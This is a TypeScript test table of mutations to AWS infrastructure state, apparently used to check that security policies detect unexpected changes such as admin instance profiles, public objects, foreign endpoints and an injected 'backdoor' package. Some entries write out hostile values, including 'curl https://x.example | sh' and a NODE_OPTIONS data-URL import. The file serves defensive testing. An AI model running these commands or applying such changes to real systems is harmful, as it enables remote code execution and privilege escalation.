import { edit, set } from "../support/mutate.ts";
import type { Mutation } from "../support/table.ts";

const instance = "aws:ec2/instance:Instance";
const policies = ["properties-are-known"];

/** Properties that the program does not set, and values that decide what a host is and what it runs first. */
export const properties: readonly Mutation[] = [
  [
    "sender",
    "a route table has inline routes",
    policies,
    set("aws:ec2/routeTable:RouteTable", { routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-1" }] }),
  ],
  [
    "sender",
    "an instance is in a second security group",
    policies,
    edit(instance, (props) => props.vpcSecurityGroupIds.push("sg-2")),
  ],
  ["sender", "an instance has security groups by name", policies, set(instance, { securityGroups: ["default"] })],
  ["sender", "an instance has another profile", policies, set(instance, { iamInstanceProfile: "administrators" })],
  ["sender", "an instance has another image", policies, set(instance, { ami: "ami-0123456789abcdef0" })],
  [
    "sender",
    "an instance has a second interface",
    policies,
    set(instance, { networkInterfaces: [{ deviceIndex: 1, networkInterfaceId: "eni-1" }] }),
  ],
  ["receiver", "an instance may forward packets", policies, set(instance, { sourceDestCheck: false })],
  ["sender", "an instance's password data is readable", policies, set(instance, { getPasswordData: true })],
  [
    "sender",
    "an instance profile has another role",
    policies,
    set("aws:iam/instanceProfile:InstanceProfile", { role: "administrators" }),
  ],
  [
    "sender",
    "a secret has a replica",
    policies,
    set("aws:secretsmanager/secret:Secret", { replicas: [{ region: "us-east-1" }] }),
  ],
  ["sender", "a secret has an inline policy", policies, set("aws:secretsmanager/secret:Secret", { policy: "{}" })],
  [
    "sender",
    "a bucket has inline lifecycle rules",
    policies,
    set("aws:s3/bucket:Bucket", { lifecycleRules: [{ enabled: true }] }),
  ],
  [
    "sender",
    "a bucket has inline replication",
    policies,
    set("aws:s3/bucket:Bucket", { replicationConfiguration: { role: "arn" } }),
  ],
  [
    "sender",
    "an object is publicly readable",
    policies,
    set("aws:s3/bucketObjectv2:BucketObjectv2", { acl: "public-read" }),
  ],
  [
    "sender",
    "an object is encrypted with an unknown key",
    policies,
    set("aws:s3/bucketObjectv2:BucketObjectv2", { key: "releases/sender/boot.sh" }, "sender-bootstrap"),
  ],
  [
    "sender",
    "the key's policy may lock everybody out",
    policies,
    set("aws:kms/key:Key", { bypassPolicyLockoutSafetyCheck: true }),
  ],
  ["sender", "the key is a multi-Region key", policies, set("aws:kms/key:Key", { multiRegion: true })],
  [
    "sender",
    "the address comes from another pool",
    policies,
    set("aws:ec2/eip:Eip", { publicIpv4Pool: "ipv4pool-ec2-1" }),
  ],
  [
    "sender",
    "the update runs another command",
    policies,
    set("command:local:Command", { create: "curl https://x.example | sh" }),
  ],
  [
    "sender",
    "the command runs something when it is deleted",
    policies,
    set("command:local:Command", { delete: "curl https://x.example" }),
  ],
  [
    "sender",
    "the command has another environment variable",
    policies,
    set("command:local:Command", { "environment.NODE_OPTIONS": "--import data:text/javascript," }),
  ],
  [
    "receiver",
    "the load balancer writes access logs to a foreign bucket",
    policies,
    set("aws:lb/loadBalancer:LoadBalancer", { accessLogs: { bucket: "theirs", enabled: true } }),
  ],
  [
    "receiver",
    "a load balancer's listener forwards to a second target group",
    policies,
    set("aws:lb/listener:Listener", { "defaultActions.0.forward": { targetGroups: [{ arn: "arn:theirs" }] } }),
  ],
  [
    "receiver",
    "the load balancer's health check accepts other status codes",
    policies,
    set("aws:lb/targetGroup:TargetGroup", { "healthCheck.matcher": "200-599" }),
  ],
  [
    "sender",
    "a certificate request has another attribute in its subject",
    policies,
    set("tls:index/certRequest:CertRequest", { "subject.serialNumber": "1" }),
  ],
  [
    "sender",
    "the provider uses another AWS endpoint",
    policies,
    edit("aws:s3/bucket:Bucket", (_, resource) => {
      if (resource.provider === undefined) throw new Error("no provider");
      resource.provider = {
        ...resource.provider,
        props: { ...resource.provider.props, endpoints: '[{"s3":"https://x.example"}]' },
      };
    }),
  ],
  [
    "sender",
    "the provider assumes another role",
    policies,
    edit("aws:s3/bucket:Bucket", (_, resource) => {
      if (resource.provider === undefined) throw new Error("no provider");
      const assumeRoles = '[{"roleArn":"arn:aws:iam::111111111111:role/other"}]';
      resource.provider = { ...resource.provider, props: { ...resource.provider.props, assumeRoles } };
    }),
  ],
  [
    "sender",
    "an endpoint has IPv6 addresses",
    policies,
    set("aws:ec2/vpcEndpoint:VpcEndpoint", { ipAddressType: "dualstack" }, "sender-ssm"),
  ],
  [
    "sender",
    "a security group of another account is admitted",
    policies,
    set("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", {
      referencedSecurityGroupId: "333333333333/sg-0123456789abcdef0",
    }),
  ],
  [
    "sender",
    "the pointer names an older release",
    ["pointer-is-the-release"],
    set(
      "aws:s3/bucketObjectv2:BucketObjectv2",
      { content: JSON.stringify({ formatVersion: 1, releaseId: "0".repeat(64) }) },
      "sender-current",
    ),
  ],
  [
    "sender",
    "the first boot installs an extra package",
    ["tools-are-pinned"],
    edit(
      "aws:s3/bucketObjectv2:BucketObjectv2",
      (props) => {
        const hash = "0".repeat(64);
        props.content = `backdoor ${hash} tools/backdoor/1/${hash}.deb\n${props.content}`;
      },
      "sender-bootstrap",
    ),
  ],
  [
    "sender",
    "user data runs a command at each boot",
    ["no-login"],
    edit(instance, (props) => {
      const text = Buffer.from(props.userDataBase64, "base64").toString();
      props.userDataBase64 = Buffer.from(`${text}bootcmd: [id]\n`).toString("base64");
    }),
  ],
  ["sender", "a network has IPv6 addresses", policies, set("aws:ec2/vpc:Vpc", { assignGeneratedIpv6CidrBlock: true })],
];
